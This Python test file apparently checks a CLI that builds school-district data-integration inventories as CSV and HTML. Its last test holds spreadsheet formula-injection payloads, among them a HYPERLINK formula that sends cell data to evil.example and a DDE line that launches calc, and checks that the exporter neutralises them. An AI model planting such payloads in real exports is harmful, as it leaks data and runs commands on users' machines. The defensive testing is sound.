"""`hub inventory` on the demo registry: the NERIC columns, CSV, and a self-contained HTML page."""

import csv
import html
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
import yaml

from dagster_project.definitions import PROJECT_ROOT
from feeds import FEEDS
from hub.cli.main import main
from hub.inventory.build import COLUMNS
from tests.conftest import need

DEMO_FULL = PROJECT_ROOT / "demo" / "registry.yaml"
NERIC = ["Source", "Destination", "District Contact", "Method", "Filtering", "Path", "Timing", "Start Date",
         "Ticket Number", "Local Location", "Notes"]


def _demo_siras(folder: Path) -> Path:
    """The demo registry's SIRAS part (fixed, so the counts below do not move as the demo grows)."""
    data = yaml.safe_load(DEMO_FULL.read_text())
    data["integrations"] = [i for i in data["integrations"] if i["feed"] == "siras"]
    data["districts"] = [d for d in data["districts"] if d["id"] in {i["district"] for i in data["integrations"]}]
    path = folder / "registry.yaml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


DEMO = _demo_siras(Path(tempfile.mkdtemp(prefix="hub-inventory-")))


def run(capsys: pytest.CaptureFixture, *args: str) -> str:
    assert main(["inventory", "--registry", str(DEMO), *args]) == 0
    return capsys.readouterr().out


def test_csv_has_the_spec_columns_and_every_integration(capsys, monkeypatch):
    monkeypatch.delenv("HUB_WAREHOUSE_URL", raising=False)
    rows = list(csv.DictReader(io.StringIO(run(capsys, "--format", "csv"))))
    assert list(rows[0])[:11] == NERIC and {"Enabled", "Last Successful Delivery", "Rows In It",
                                             "Days Since Last File", "Data Elements"} <= set(rows[0])
    by_id = {r["Integration"]: r for r in rows}
    assert set(by_id) == {"siras_abc_unified", "siras_fresno_unified", "siras_santa_ana_unified", "siras_acalanes_sftp"}
    abc = by_id["siras_abc_unified"]
    assert (abc["Source"], abc["Method"], abc["Ticket Number"], abc["Enabled"]) == ("Aeries SIS", "Hub drop folder", "HUB-101", "yes")
    assert "special education / 504 status" in abc["Data Elements"] and "birthdate" in abc["Data Elements"]
    assert by_id["siras_acalanes_sftp"]["Method"] == "SFTP" and by_id["siras_acalanes_sftp"]["Enabled"] == "no"
    assert by_id["siras_acalanes_sftp"]["Disable Candidate"] == ""  # already disabled


def test_installed_command_names_the_data_every_feed_carries(tmp_path: Path):
    """`hub inventory` as installed (the console script, run outside the project, without PYTHONPATH) on the whole
    demo: every package the command imports is installed, and every integration says what data it carries."""
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "HUB_WAREHOUSE_URL")}
    out = subprocess.run([str(Path(sys.executable).with_name("hub")), "inventory", "--registry", str(DEMO_FULL),
                          "--format", "csv"], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stderr[-2000:]
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert {r["Feed"] for r in rows} == set(FEEDS)
    elements = {r["Feed"]: r["Data Elements"].split("; ") for r in rows}
    assert [f for f, e in elements.items() if e == [""]] == []
    assert "email" in elements["classlink"] and "email" in elements["powerschool"]
    assert {"state student id", "name", "birthdate"} <= set(elements["focus_roster"])
    assert "disability (exceptionality)" in elements["peer"] and "assessment results" in elements["renaissance_star"]
    assert elements["edreflect"] == ["educator evaluation", "staff id"]  # staff data, no student element


def test_stale_days_decides_disable_candidates(capsys, monkeypatch):
    monkeypatch.delenv("HUB_WAREHOUSE_URL", raising=False)
    never = list(csv.DictReader(io.StringIO(run(capsys, "--format", "csv", "--stale-days", "100000"))))
    assert {r["Disable Candidate"] for r in never} == {""}
    now = list(csv.DictReader(io.StringIO(run(capsys, "--format", "csv", "--stale-days", "0"))))
    assert sorted(r["Integration"] for r in now if r["Disable Candidate"]) == [
        "siras_abc_unified", "siras_fresno_unified", "siras_santa_ana_unified"]


def test_html_page_is_self_contained_sortable_filterable_with_flow_diagram(tmp_path: Path, monkeypatch, capsys):
    monkeypatch.delenv("HUB_WAREHOUSE_URL", raising=False)
    data = yaml.safe_load(DEMO.read_text())
    data["integrations"][0]["contact"] = {"role": "SIS Administrator", "name": "Pat Example", "email": "pat@example.org"}
    registry = tmp_path / "registry.yaml"
    registry.write_text(yaml.safe_dump(data))
    out = tmp_path / "inventory.html"
    assert main(["inventory", "--registry", str(registry), "--format", "html", "-o", str(out)]) == 0
    page = out.read_text()
    assert not re.search(r"""<link|<img|<iframe|\bsrc=|\bhref=|@import|url\(|fetch\(|XMLHttpRequest""", page)
    assert re.findall(r"https?://[^\s\"']+", page) == ["http://www.w3.org/2000/svg"]  # a namespace, not a request
    assert "Pat Example" not in page and "pat@example.org" not in page  # contacts by role only
    assert [f"<th>{c}</th>" for c in COLUMNS] == re.findall(r"<th>[^<]*</th>", page)
    assert page.count('<tr class="') == 4 and page.count('class="candidate"') == 3
    assert '<input id="filter"' in page and "addEventListener('click'" in page and "localeCompare" in page
    svg = re.search(r"<svg .*?</svg>", page, re.S).group(0)
    for district in ("ABC Unified School District", "Fresno Unified School District", "Santa Ana Unified School District"):
        assert svg.count(f">{district}<") == 1  # one band per district
    assert svg.count('class="hub"') == 3 and svg.count('class="flow off"') == 2  # the disabled SFTP entry is dashed


def test_bad_arguments_exit_2(capsys):
    assert main(["inventory", "--registry", str(DEMO), "--stale-days", "-1"]) == 2
    assert main(["inventory", "--registry", "/nonexistent/registry.yaml"]) == 2
    assert "cannot read" in capsys.readouterr().err


PROBE = """<script>
var t = document.getElementById('inventory'), f = document.getElementById('filter'), col = 11;
var th = t.tHead.rows[0].cells[col];
th.click(); th.click();
var order = Array.prototype.map.call(t.tBodies[0].rows, function (r) { return r.cells[col].textContent; });
f.value = 'fresno'; f.dispatchEvent(new Event('input'));
var shown = Array.prototype.filter.call(t.tBodies[0].rows, function (r) { return r.style.display !== 'none'; });
document.body.setAttribute('data-probe', JSON.stringify({order: order, shown: shown.length}));
</script></body>"""


def test_page_sorts_and_filters_in_a_headless_browser(tmp_path: Path, monkeypatch, capsys):
    browser = shutil.which("chromium") or shutil.which("chromium-browser")
    if browser is None:
        need("chromium for the headless check of the inventory page")
    monkeypatch.delenv("HUB_WAREHOUSE_URL", raising=False)
    page = tmp_path / "probe.html"
    page.write_text(run(capsys, "--format", "html").replace("</body>", PROBE))
    dom = subprocess.run([browser, "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", page.as_uri()],
                         capture_output=True, text=True, timeout=120, check=True).stdout
    probe = json.loads(html.unescape(re.search(r'data-probe="([^"]*)"', dom).group(1)))
    assert probe == {"order": ["siras_santa_ana_unified", "siras_fresno_unified", "siras_acalanes_sftp",
                               "siras_abc_unified"], "shown": 1}  # second click sorts descending; filter by text


def test_csv_neutralises_registry_text_a_spreadsheet_would_run_as_a_formula(tmp_path: Path, capsys, monkeypatch):
    monkeypatch.delenv("HUB_WAREHOUSE_URL", raising=False)
    data = yaml.safe_load(DEMO.read_text())
    entry = data["integrations"][0]
    entry.update(source='=HYPERLINK("http://evil.example/?"&A1,"x")', destination="+1+cmd|' /C calc'!A0",
                 ticket="-2+3", notes="@SUM(1,1)", filtering="\t=1+1", timing="nightly = 02:00")
    registry = tmp_path / "registry.yaml"
    registry.write_text(yaml.safe_dump(data, sort_keys=False))
    assert main(["inventory", "--registry", str(registry), "--format", "csv"]) == 0
    row = next(r for r in csv.DictReader(io.StringIO(capsys.readouterr().out)) if r["Integration"] == entry["id"])
    assert row["Source"] == "'" + entry["source"] and row["Destination"] == "'" + entry["destination"]
    assert row["Ticket Number"] == "'-2+3" and row["Notes"] == "'@SUM(1,1)" and row["Filtering"] == "'\t=1+1"
    assert row["Timing"] == "nightly = 02:00"  # a formula character inside the text is harmless
    cells = [v for r in csv.DictReader(io.StringIO(run(capsys, "--format", "csv"))) for v in r.values()]
    assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in cells)
